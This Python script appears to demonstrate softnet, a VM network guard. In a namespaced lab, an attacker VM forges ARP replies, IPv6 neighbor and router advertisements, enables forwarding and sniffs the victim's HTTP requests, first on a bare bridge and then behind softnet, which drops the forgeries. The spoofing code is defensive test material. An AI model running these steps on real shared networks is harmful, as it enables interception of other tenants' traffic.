"""Part 2: the story that softnet began with. Two tenants' VMs share a bridge, and one takes the other's traffic: by
answering ARP for the gateway, and in IPv6 by answering for the router and by advertising itself as one.

    victim eth0 -- [softnet] -- tap -- br0 -- eth0 gateway   (dnsmasq: DHCP server and IPv6 router; "the internet",
    attacker eth0 -- [softnet] -- tap --'                     1.1.1.1 and 2606:4700:4700::1111 with a web server)
"""

import frames
import frames6
import netns
import services
from addresses import start_ipv6, take_lease, wait_ipv6
from vm import VM, qemu_name

VICTIM_MAC, ATTACKER_MAC, GATEWAY_MAC = "52:54:00:00:00:0a", "52:54:00:00:00:0b", "52:54:00:00:00:01"
GATEWAY, ROUTER = "192.168.77.1", frames6.link_local(GATEWAY_MAC)
PREFIX = "2a00:7700:1:1::"
# Global addresses, as a guest may reach only those; here they are inside our own namespace.
INTERNET, INTERNET6 = "1.1.1.1", "2606:4700:4700::1111"
SECRETS = 5                     # in IPv4, and as many in IPv6
NAMES = {GATEWAY_MAC: "the gateway", ATTACKER_MAC: "the attacker",
         ROUTER: "the gateway", frames6.link_local(ATTACKER_MAC): "the attacker"}


def build_segment(network):
    network.bridge("br0")
    gateway = network.namespace("gateway")
    for interface in "all", "default":
        gateway.set_ipv6(interface, forwarding=1, accept_dad=0)     # a router, and with its addresses at once
    network.join(gateway, "eth0", "br0", f"{GATEWAY}/24", mac=GATEWAY_MAC)
    gateway.ip(f"address add {PREFIX}1/64 dev eth0")
    for address in f"{INTERNET}/32", f"{INTERNET6}/128":
        gateway.ip(f"address add {address} dev lo")
    services.dnsmasq(network, gateway, "192.168.77.10", "192.168.77.50", "600s", "--enable-ra",
                     f"--dhcp-range={PREFIX},ra-only", router=GATEWAY)
    return services.WebServer(gateway, "::")        # IPv4 as well


def start_tenant(screen, network, name, image, mac, softnet):
    tap = f"tap-{name}"
    if softnet is None:
        network.tap(tap, "br0")
        return VM(network, name, image, mac, f"tap,id=n0,ifname={tap},script=no,downscript=no")
    guard = [softnet, "run", "-v", "--vm-mac-address", mac, "--uplink", f"tap:{tap},bridge=br0", "--"]
    screen.typed("host", f"softnet run -v --uplink tap:{tap},bridge=br0 -- {qemu_name()} ...   # the {name}")
    return VM(network, name, image, "{mac}", "dgram,id=n0,local.type=fd,local.str={fd}", guard,
              on_line=screen.guard(f"softnet/{name}"), kind=services.Softnet)


def take_addresses(screen, victim, attacker):
    """Returns the victim's, of IPv4 and IPv6."""
    leases = []
    for guest in victim, attacker:
        leases.append(take_lease(screen, guest))
        start_ipv6(screen, guest)
    victim.run(f"wget -q -O - http://{INTERNET}/hello")         # so that it has an ARP entry to spoil
    addresses = [wait_ipv6(screen, guest) for guest in (victim, attacker)]
    return leases[0], addresses[0]


def attack(screen, attacker, victim_ip, victim_ip6):
    """Tell the victim that we are the gateway, and the gateway that we are the victim, twice a second; in IPv6, that we
    are the victim's router. Forward what we get, so that nobody misses anything; and write down what comes by."""
    forged = [frames.arp(frames.REPLY, ATTACKER_MAC, GATEWAY, VICTIM_MAC, victim_ip, destination=VICTIM_MAC),
              frames.arp(frames.REPLY, ATTACKER_MAC, victim_ip, GATEWAY_MAC, GATEWAY, destination=GATEWAY_MAC),
              frames6.neighbor_advertisement(ATTACKER_MAC, ROUTER, VICTIM_MAC, victim_ip6),
              frames6.router_advertisement(ATTACKER_MAC, "fd00:bad::")]
    attacker.run("echo 1 >/proc/sys/net/ipv4/ip_forward")
    attacker.run("for i in all eth0; do echo 0 >/proc/sys/net/ipv4/conf/$i/send_redirects; done")
    attacker.run("echo 1 >/proc/sys/net/ipv6/conf/all/forwarding")      # which forgets the routers that it heard
    attacker.run(f"ip -6 route add default via {ROUTER} dev eth0")
    # IPv6 has no send_redirects; but a kernel that is no neighbor of the victim's sends it none (RFC 4861 8.2).
    attacker.run(f"ip -6 route add {victim_ip6} via {ROUTER} dev eth0")
    attacker.run("rawframe listen eth0 >/tmp/seen &")
    screen.typed("attacker", "rawframe listen eth0 >seen &")
    command = f"rawframe send eth0 -c 200 -i 500 {' '.join(forged)}"
    screen.typed("attacker", f"{command[:64]}... &   # {GATEWAY} is me, {victim_ip} too, and the IPv6 router")
    attacker.run(f"{command} >/dev/null &")


def word_after(word, text):
    words = text.split()
    return words[words.index(word) + 1] if word in words else None


def beliefs(victim):
    """What the victim thinks: (MAC address of the gateway, the same of the IPv6 router, which router it uses)."""
    return (word_after("lladdr", victim.run(f"ip neigh show {GATEWAY}")),
            word_after("lladdr", victim.run(f"ip -6 neigh show {ROUTER}")),
            word_after("via", victim.run(f"ip -6 route get {INTERNET6}")))


def wait_for_effect(victim, attacker, softnet):
    """What the victim believes once the lies have had their chance."""
    def refused(now):
        return now.dropped("guest", "arp-spa-spoof") >= 4 and \
            all(now.dropped("guest", reason) >= 2 for reason in ("nd-target-foreign", "ra-from-guest"))

    def fooled():
        believed = beliefs(victim)
        return believed if all(NAMES.get(each) == "the attacker" for each in believed) else None
    if softnet:     # until softnet has refused every lie, more than once
        attacker.process.wait_counters(refused, 15, "softnet to drop what is forged")
        return beliefs(victim)
    return netns.wait_for(fooled, 15, "the victim to believe the attacker")


def show_beliefs(screen, believed):
    """Returns them by name."""
    questions = ((f"ip neigh show {GATEWAY}", f"{GATEWAY} is at"), (f"ip -6 neigh show {ROUTER}", f"{ROUTER} is at"),
                 (f"ip -6 route get {INTERNET6}", f"{INTERNET6} via"))
    for (command, about), belief in zip(questions, believed):
        screen.typed("victim", command)
        screen.output("victim", f"{about} {belief}: {NAMES.get(belief, '?')}")
    return [NAMES.get(belief, belief) for belief in believed]


def fetch_secrets(screen, victim):
    """Whether all came."""
    each = f"for i in $(seq {SECRETS}); do"
    for family, host in (4, INTERNET), (6, f"[{INTERNET6}]"):
        command = f"{each} timeout 5 wget -q -O /dev/null http://{host}/secret-{family}-$i || exit 1; done"
        screen.typed("victim", command)
        if victim.try_run(command, 60)[0] != 0:
            return False
    return True


def of_all(counts):
    return f"{counts[0]} of {SECRETS} in IPv4, {counts[1]} of {SECRETS} in IPv6"


def stolen_secrets(screen, attacker):
    """How many of the victim's requests the attacker has written down, of IPv4 and of IPv6."""
    look = f"for i in $(seq {SECRETS}); do grep -q $(printf 'GET /secret-%s-%s' FAMILY $i | xxd -p) /tmp/seen && " \
           "echo $i; done"
    stolen = [len(attacker.try_run(look.replace("FAMILY", family), 60)[1].split()) for family in "46"]
    screen.typed("attacker", "grep 'GET /secret-' seen")
    screen.output("attacker", f"the victim's requests: {of_all(stolen)}")
    return stolen


def two_tenants(screen, image, softnet):
    how = "with softnet before each of them" if softnet else "without softnet"
    screen.part(f"Part 2{'b' if softnet else 'a'}: two tenants on one bridge, {how}")
    with netns.Network() as network:
        web = build_segment(network)
        victim = start_tenant(screen, network, "victim", image, VICTIM_MAC, softnet)
        attacker = start_tenant(screen, network, "attacker", image, ATTACKER_MAC, softnet)
        for guest in victim, attacker:
            guest.boot()
        addresses = take_addresses(screen, victim, attacker)

        attack(screen, attacker, *addresses)
        wait_for_effect(victim, attacker, softnet)
        fetched = fetch_secrets(screen, victim)
        # Again, as what the router itself sends may set the victim right, until the next lie.
        believed = show_beliefs(screen, wait_for_effect(victim, attacker, softnet))
        stolen = stolen_secrets(screen, attacker)
        arrived = [sum(path.startswith(f"/secret-{family}") for _, path in web.requests) for family in (4, 6)]
        report(screen, softnet, believed, stolen, arrived, fetched)
        attacker.power_off()
        victim.power_off()
        web.close()


def report(screen, softnet, believed, stolen, arrived, fetched):
    where = "behind softnet" if softnet else "bare bridge"
    success = "no effect" if softnet else "fools the victim"
    right = "the gateway" if softnet else "the attacker"
    mac, mac6, router = believed
    screen.row(f"{where}: forge ARP for the gateway", success, f"the victim holds {mac}'s MAC", mac == right)
    screen.row(f"{where}: answer for the IPv6 router", success, f"the victim holds {mac6}'s MAC", mac6 == right)
    screen.row(f"{where}: advertise an IPv6 router", success, f"the victim's router is {router}", router == right)
    screen.row(f"{where}: read the victim's traffic", "not one request" if softnet else "succeeds",
               f"{of_all(stolen)} read", stolen == ([0, 0] if softnet else [SECRETS, SECRETS]))
    screen.row(f"{where}: the victim's own work", "arrives", f"{of_all(arrived)} arrived",
               fetched and arrived == [SECRETS, SECRETS])
